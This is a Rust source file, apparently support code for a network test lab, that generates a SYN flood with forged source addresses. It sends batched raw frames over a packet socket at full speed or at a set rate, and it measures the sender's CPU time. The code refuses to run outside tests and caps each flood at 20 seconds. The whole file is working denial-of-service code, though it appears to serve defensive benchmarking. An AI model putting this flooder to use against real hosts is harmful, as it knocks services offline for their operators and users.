//! A SYN flood as fast as one core sends it, or in small bursts at a given rate.

use std::io;
use std::mem;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::{Duration, Instant};

use crate::common::frames::{BARE, Segment};
use crate::common::measure::thread_cpu;
use crate::support::flood::{Random, packet_socket, refuse_outside_tests};
use crate::support::lab::{ATTACKER_LINK, Lab};

/// Frames handed to the kernel at once.
const BATCH: usize = 32;
/// The longest pause between two bursts.
const PAUSE: Duration = Duration::from_micros(200);
/// No flood lasts longer.
pub const TIME_CAP: Duration = Duration::from_secs(20);

/// Ports of one address that are flooded before the next address is.
const PORTS: u32 = 64;

/// A flood with forged sources.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// Whom the SYNs are for.
    pub target: SocketAddrV4,
    /// As many services get alike: `target`, and those at the ports and addresses after its.
    pub services: u32,
    /// The link-layer address that they are sent to.
    pub link: [u8; 6],
    /// SYNs per second; `None` for as many as possible.
    pub rate: Option<u32>,
    pub duration: Duration,
    pub seed: u64,
}

/// What was sent.
#[derive(Clone, Copy, Debug, Default)]
pub struct Sent {
    pub count: u64,
    pub took: Duration,
    /// CPU time of the sender. A veth delivers in the sender's time: all that the receiver's kernel
    /// does for a packet, up to the packet sockets, is in it.
    pub cpu: Duration,
}

impl Flood {
    /// Sends from the attacker of `lab`, on core number `core`.
    pub fn send(self, lab: &Lab, core: usize) -> io::Result<Sent> {
        lab.attacker.run(|| {
            pin(core)?;
            self.send_here()
        })
    }

    fn send_here(&self) -> io::Result<Sent> {
        refuse_outside_tests();
        let socket = packet_socket(ATTACKER_LINK)?;
        set_option(socket.as_raw_fd(), libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS)?;
        let duration = self.duration.min(TIME_CAP);
        let mut random = Random(self.seed | 1);
        let mut frames = [[0; BARE + 20]; BATCH];
        let mut count = 0;
        let (started, cpu) = (Instant::now(), thread_cpu());
        loop {
            let elapsed = started.elapsed();
            if elapsed >= duration {
                return Ok(Sent { count, took: elapsed, cpu: thread_cpu() - cpu });
            }
            let batch = match self.rate {
                None => BATCH,
                Some(rate) => {
                    let due = (elapsed.as_secs_f64() * f64::from(rate)) as u64;
                    due.saturating_sub(count).min(BATCH as u64) as usize
                }
            };
            if batch == 0 {
                thread::sleep(PAUSE);
                continue;
            }
            for frame in &mut frames[..batch] {
                Segment::forged(self.pick(&mut random), &mut random).write(frame);
                frame[..6].copy_from_slice(&self.link);
            }
            count += send_all(socket.as_raw_fd(), &mut frames[..batch])? as u64;
        }
    }

    /// One of the services.
    fn pick(&self, random: &mut Random) -> SocketAddrV4 {
        let number = random.next() as u32 % self.services.max(1);
        let address = Ipv4Addr::from_bits(self.target.ip().to_bits() + number / PORTS);
        SocketAddrV4::new(address, self.target.port() + (number % PORTS) as u16)
    }
}

/// Sends frames without options and payload; how many the kernel took.
fn send_all(socket: i32, frames: &mut [[u8; BARE + 20]]) -> io::Result<usize> {
    let mut parts: [libc::iovec; BATCH] =
        [libc::iovec { iov_base: std::ptr::null_mut(), iov_len: 0 }; BATCH];
    // SAFETY: all zeros are a valid mmsghdr without any buffer.
    let mut messages: [libc::mmsghdr; BATCH] = unsafe { mem::zeroed() };
    for ((part, message), frame) in parts.iter_mut().zip(&mut messages).zip(frames.iter_mut()) {
        *part = libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: BARE };
        message.msg_hdr.msg_iov = part;
        message.msg_hdr.msg_iovlen = 1;
    }
    let count = frames.len().min(BATCH) as u32;
    // SAFETY: the first `count` messages point to one part each, and those to frames of at least
    // the given length; all outlive the call.
    let sent = unsafe { libc::sendmmsg(socket, messages.as_mut_ptr(), count, 0) };
    match usize::try_from(sent) {
        Ok(sent) => Ok(sent),
        // A receiver that is full for a moment loses them, as on any wire.
        Err(_) if io::Error::last_os_error().raw_os_error() == Some(libc::ENOBUFS) => Ok(0),
        Err(_) => Err(io::Error::last_os_error()),
    }
}

fn set_option(socket: i32, level: i32, option: i32) -> io::Result<()> {
    let on: libc::c_int = 1;
    let (value, length) = ((&raw const on).cast(), size_of_val(&on) as libc::socklen_t);
    // SAFETY: the pointer is to an int of the length given, and outlives the call.
    match unsafe { libc::setsockopt(socket, level, option, value, length) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

/// Keeps the calling thread on one core.
pub fn pin(core: usize) -> io::Result<()> {
    // SAFETY: all zeros are a valid, empty set.
    let mut set: libc::cpu_set_t = unsafe { mem::zeroed() };
    // SAFETY: writes within the set, of which it checks the bounds.
    unsafe { libc::CPU_SET(core, &mut set) };
    // SAFETY: the pointer is to a set of the length given, and outlives the call.
    match unsafe { libc::sched_setaffinity(0, size_of_val(&set), &raw const set) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}
